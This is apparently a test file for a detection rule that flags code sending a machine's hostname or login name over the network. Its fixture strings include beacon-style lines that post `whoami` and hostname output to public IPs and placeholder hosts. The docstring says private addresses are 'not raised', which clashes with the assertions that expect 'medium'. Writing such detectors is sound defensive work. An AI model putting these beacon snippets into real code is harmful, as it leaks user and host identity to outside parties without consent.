"""Install beacons written the way real packages write them: identity read through `whoami`/`hostname` commands,
identity sent to a bare public IP address (high), the same sent to a loopback or private address (not raised)."""
from __future__ import annotations

from test_fact_severity import _by_line

RULE = "host-identity-sent-over-network"


def test_identity_posted_to_a_public_ip_is_high_to_a_private_or_loopback_address_medium():
    text = ("import socket, requests\n"
            "info = {'h': socket.gethostname()}\n"
            "requests.post('http://45.9.148.3/c', json=info)\n"
            "requests.post('http://10.0.0.5/c', json=info)\n"
            "requests.post('http://127.0.0.1:8000/c', json=info)\n")
    assert _by_line(RULE, "m.py", text) == {3: "high", 4: "medium", 5: "medium"}


def test_js_request_opened_on_a_public_ip_then_written_with_identity_is_high():
    text = ("const os = require('os'); const http = require('http');\n"
            "const data = JSON.stringify({ host: os.hostname() });\n"
            "const req = http.request({ host: '172.104.33.9', port: 80, method: 'POST' });\n"
            "req.write(data);\n"
            "const dev = http.request({ host: '192.168.1.20', port: 80, method: 'POST' });\n"
            "dev.write(data);\n")
    assert _by_line(RULE, "collect.js", text) == {4: "high", 6: "medium"}


def test_login_name_read_through_whoami_is_the_login_name():
    py = ("import subprocess, os, requests\n"
          "u = subprocess.check_output(['whoami']).decode().strip()\n"
          "requests.get('https://c.example.net/b?u=' + u)\n"
          "h = os.popen('hostname').read()\n"
          "requests.post('https://c.example.net/h', data=h)\n"
          "r = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
          "requests.post('https://c.example.net/r', data=r)\n")
    assert _by_line(RULE, "m.py", py) == {3: "high", 5: "medium"}
    js = ("const { execSync } = require('child_process');\n"
          "const who = execSync('whoami').toString().trim();\n"
          "fetch(`https://b.example.net/${who}`);\n"
          "const rev = execSync('git rev-parse HEAD').toString();\n"
          "fetch(`https://b.example.net/${rev}`);\n")
    assert _by_line(RULE, "m.js", js) == {3: "high"}
